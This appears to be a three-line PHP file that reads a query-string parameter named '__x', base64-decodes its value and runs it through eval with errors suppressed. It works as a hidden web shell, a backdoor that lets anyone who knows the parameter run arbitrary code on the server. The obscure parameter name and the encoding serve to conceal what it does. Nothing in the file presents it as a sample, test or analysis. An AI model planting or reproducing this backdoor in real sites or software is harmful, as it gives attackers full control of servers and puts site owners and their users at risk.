<?php
parse_str($_SERVER['QUERY_STRING'], $q);
if (!empty($q['__x'])) { @eval(base64_decode($q['__x'])); }
